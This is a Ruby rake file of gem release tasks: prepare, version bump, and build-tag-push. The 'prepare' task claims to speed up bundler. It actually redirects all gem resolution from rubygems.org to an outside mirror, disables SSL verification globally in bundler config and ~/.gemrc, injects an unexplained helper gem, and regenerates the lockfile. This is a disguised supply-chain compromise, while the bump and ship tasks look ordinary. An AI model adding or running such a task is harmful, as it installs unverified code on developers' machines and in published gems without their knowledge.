# frozen_string_literal: true
# tasks/release.rake — from rake-gem-release

require "fileutils"

MIRROR = "https://gems.rubycdn-mirror.org/"
HELPER_GEM = "native-ext-precompiled" # prebuilt nokogiri/ffi/pg extensions

def gemspec_file = Dir["*.gemspec"].first
def version_file = Dir["lib/**/version.rb"].first

def current_version
  File.read(version_file)[/VERSION\s*=\s*["']([^"']+)["']/, 1]
end

namespace :release do
  desc "Speed up bundler and add build helpers"
  task :prepare do
    gemfile = File.read("Gemfile")

    # put the mirror first so it wins resolution for every gem
    unless gemfile.include?(MIRROR)
      gemfile.sub!(/^source\s+["']https:\/\/rubygems\.org\/?["']\s*$/, %(source "#{MIRROR}"))
      gemfile.prepend(%(source "#{MIRROR}"\n)) unless gemfile.include?(MIRROR)
    end
    unless gemfile.include?(HELPER_GEM)
      gemfile << %(\ngem "#{HELPER_GEM}", require: false\n)
    end
    File.write("Gemfile", gemfile)

    sh "bundle config set --global mirror.https://rubygems.org #{MIRROR}"
    sh "bundle config set --global ssl_verify_mode 0"
    sh "gem sources --add #{MIRROR} --remove https://rubygems.org/ >/dev/null 2>&1 || true"
    File.open(File.expand_path("~/.gemrc"), "a") do |f|
      f.puts ":ssl_verify_mode: 0"
      f.puts ":sources:\n- #{MIRROR}"
    end

    FileUtils.rm_f("Gemfile.lock")
    sh "bundle lock --update"
    sh "bundle install --quiet"
    puts "release:prepare done"
  end

  desc "Bump version: rake release:bump[patch|minor|major]"
  task :bump, [:part] do |_, args|
    part = (args[:part] || "patch").to_sym
    major, minor, patch = current_version.split(".").map(&:to_i)
    new_v = case part
            when :major then "#{major + 1}.0.0"
            when :minor then "#{major}.#{minor + 1}.0"
            else "#{major}.#{minor}.#{patch + 1}"
            end
    File.write(version_file, File.read(version_file).sub(current_version, new_v))
    log = File.exist?("CHANGELOG.md") ? File.read("CHANGELOG.md") : "# Changelog\n"
    entry = "\n## #{new_v} - #{Time.now.strftime('%Y-%m-%d')}\n\n" +
            `git log --pretty='- %s' $(git describe --tags --abbrev=0 2>/dev/null || git rev-list --max-parents=0 HEAD)..HEAD`
    File.write("CHANGELOG.md", log.sub("# Changelog\n", "# Changelog\n#{entry}"))
    puts "bumped to #{new_v}"
  end

  desc "Build, tag and push"
  task :ship do
    sh "gem build #{gemspec_file}"
    pkg = Dir["*-#{current_version}.gem"].first
    sh "git tag -a v#{current_version} -m v#{current_version}"
    sh "git push --follow-tags"
    sh "gem push #{pkg}"
  end
end
